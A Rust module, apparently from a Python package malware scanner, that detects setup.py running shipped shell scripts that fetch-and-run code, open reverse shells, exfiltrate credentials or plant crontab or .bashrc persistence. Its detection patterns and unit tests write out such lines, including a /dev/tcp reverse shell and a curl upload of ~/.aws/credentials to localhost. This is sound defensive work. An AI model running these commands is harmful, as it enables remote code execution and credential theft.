//! Shell scripts shipped in the sdist and run by setup.py.
//!
//! **Detects** an install-time command in setup.py (or code it calls) that runs a shell
//! script shipped in the same archive (`bash install.sh`, `./build.sh`, `sh -c …/x.sh`)
//! when the script itself downloads and runs code, opens a reverse shell, sends
//! credentials or host facts with curl/wget, or plants persistence (crontab, shell
//! start-up files, systemd units) — `install-shell`, critical, with the script's line
//! as evidence. The Python side only shows `bash install.sh`; the payload is in the
//! script, where a detector that reads only Python never looks.
//!
//! **Why risky:** `pip install` runs the script with the user's permissions before
//! anyone reads it. Build scripts that only configure and compile (`./configure`,
//! `make`, `cmake`) do not match and stay `install-subprocess` (high).
//!
//! **Example:** setup.py `subprocess.call(["bash", "setup.sh"])` with setup.sh holding
//! `curl -s http://host/x | sh`.
//!
//! **Remedy:** do not install; read the script in the archive and report the package.

use crate::analysis::python::{evidence::{at, clip}, model::Model, names, sensitive_paths::sensitive_path, shellcmd};
use crate::alerts::AlertId;
use crate::analysis::source::SourceFile;
use crate::finding::{ExecContext, Finding};

/// True when an archive member is a shell script: `.sh`/`.bash`, or a `sh`/`bash` shebang.
pub(crate) fn is_shell_script(path: &str, data: &[u8]) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    if name.ends_with(".sh") || name.ends_with(".bash") {
        return true;
    }
    let first = data.split(|b| *b == b'\n').next().unwrap_or(b"");
    !name.contains('.') && first.starts_with(b"#!") && (first.ends_with(b"/sh") || first.ends_with(b"/bash") || first.ends_with(b"env bash") || first.ends_with(b"env sh"))
}

/// What makes a script's line malicious at install time, if anything.
fn script_reason(line: &str) -> Option<&'static str> {
    let l = line.to_ascii_lowercase();
    if let Some(why) = shellcmd::download_and_run(&l) {
        return Some(why);
    }
    if l.contains("/dev/tcp/") || l.contains("nc -e") || l.contains("ncat -e") || l.contains("bash -i >&") || l.contains("socat exec:") || l.contains("mkfifo") && l.contains("nc ") {
        return Some("opens a reverse shell");
    }
    let sends = l.contains("curl ") || l.contains("wget ") || l.contains("nc ");
    let host_facts = ["$(whoami", "$(hostname", "`whoami", "`hostname", "$(env", "$(printenv", "$(cat /etc/passwd", "$(id)", "$(uname"].iter().any(|t| l.contains(t));
    if sends && (host_facts || l.split_whitespace().any(|tok| sensitive_path(tok).is_some())) {
        return Some("sends credentials or host facts over the network");
    }
    let appends = l.contains(">>") || l.contains("tee -a");
    if l.contains("crontab") && (l.contains('|') || l.contains(" -") && !l.contains("crontab -l")) && !l.trim_start().starts_with("crontab -l") {
        return Some("installs a crontab entry");
    }
    if appends && [".bashrc", ".zshrc", ".bash_profile", "/.profile", "/etc/rc.local"].iter().any(|p| l.contains(p)) {
        return Some("writes to a shell start-up file");
    }
    if (l.contains("systemctl enable") || l.contains(".config/systemd/user") || l.contains("/etc/systemd/system")) && !l.contains("echo ") {
        return Some("installs a systemd service");
    }
    None
}

/// Checks each install-time command of `m` (setup.py) that names one of `scripts`.
pub(in crate::analysis::python) fn check(m: &Model, scripts: &[SourceFile], out: &mut Vec<Finding>) {
    if scripts.is_empty() {
        return;
    }
    for c in &m.calls {
        if m.ctx(c.scope) != ExecContext::Install || names::shell_call(&c.q).is_none() {
            continue;
        }
        let Some(cmd) = c.command_text() else { continue };
        for s in scripts {
            let base = s.path.rsplit('/').next().unwrap_or(s.path);
            if base.len() < 3 || !cmd.contains(base) {
                continue;
            }
            let hit = s
                .text
                .lines()
                .enumerate()
                .map(|(i, l)| (i, l.trim()))
                .filter(|(_, l)| !l.starts_with('#') && !l.is_empty())
                .find_map(|(i, l)| script_reason(l).map(|r| (i, l, r)));
            if let Some((i, line, reason)) = hit {
                let where_ = m.scope(c.scope).describe();
                let msg = format!("{}() runs the shipped script `{}`, which {reason} (line {}: `{}`) {where_}", c.q, s.path, i + 1, clip(line));
                out.push(at(m, AlertId::InstallShell, c.scope, c.line, msg));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::script_reason;

    #[test]
    fn malicious_script_lines() {
        assert!(script_reason("curl -s http://127.0.0.1:9/x | sh").is_some());
        assert!(script_reason("bash -i >& /dev/tcp/127.0.0.1/9 0>&1").is_some());
        assert!(script_reason("curl -d \"$(whoami)@$(hostname)\" http://127.0.0.1:9/").is_some());
        assert!(script_reason("curl -F f=@$HOME/.aws/credentials http://127.0.0.1:9/").is_some());
        assert!(script_reason("echo 'python3 -m canary' >> ~/.bashrc").is_some());
        assert!(script_reason("(crontab -l; echo '* * * * * /tmp/canary') | crontab -").is_some());
    }

    #[test]
    fn build_script_lines_are_quiet() {
        for l in ["./configure --prefix=/usr", "make -j4", "cmake -S . -B build && cmake --build build", "gcc -O2 -o ext ext.c", "chmod +x build/tool", "echo 'see https://example.org for docs'", "crontab -l"] {
            assert!(script_reason(l).is_none(), "{l}");
        }
    }
}
